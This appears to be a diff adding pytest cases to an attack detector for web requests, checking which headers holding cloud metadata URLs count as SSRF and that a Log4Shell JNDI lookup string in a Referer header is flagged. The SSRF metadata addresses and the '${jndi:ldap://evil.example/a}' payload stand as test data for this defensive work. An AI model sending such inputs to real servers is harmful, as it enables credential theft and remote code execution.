@@ -272,3 +272,28 @@ def test_rates() -> None:
     assert {
         kind: found[kind] / total[kind] for kind, (_, rate) in wanted.items() if found[kind] / total[kind] < rate
     } == {}
+
+
+METADATA = ("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/")
+
+
+@pytest.mark.parametrize("url", METADATA)
+def test_addresses_in_headers_that_speak_of_addresses_are_no_forged_request(url: str) -> None:
+    """Nobody fetches what Referer, Origin, Host or a proxy's headers name, so a cloud's own address there is no attack;
+    in any other header, as in a parameter, it is one.
+    """
+    own = ("Referer", "Origin", "Host", "Forwarded", "Via", "X-Original-URL", "X-Forwarded-Host", "X-Forwarded-For")
+    for name in own:
+        assert detect([(f"reqHeaders.{name}", url)]) == {}, name
+        assert detect([(f"reqHeaders.{name.lower()}", url)]) == {}, name
+    for name in ("X-Callback", "X-Webhook-Url", "User-Agent", "Cookie"):
+        value = f"next={url}" if name == "Cookie" else url
+        (found,) = detect([(f"reqHeaders.{name}", value)])[f"reqHeaders.{name}"]
+        assert (found.category, found.confidence) == ("SSRF", "high"), name
+    assert [finding.category for finding in detect([("reqQuery.file", url)])["reqQuery.file"]] == ["SSRF"]
+
+
+def test_other_attacks_in_such_headers_are_attacks() -> None:
+    """Only the address is passed over: what else stands in a Referer is what it is anywhere."""
+    (found,) = detect([("reqHeaders.Referer", "${jndi:ldap://evil.example/a}")])["reqHeaders.Referer"]
+    assert found.category == "LOG4SHELL"
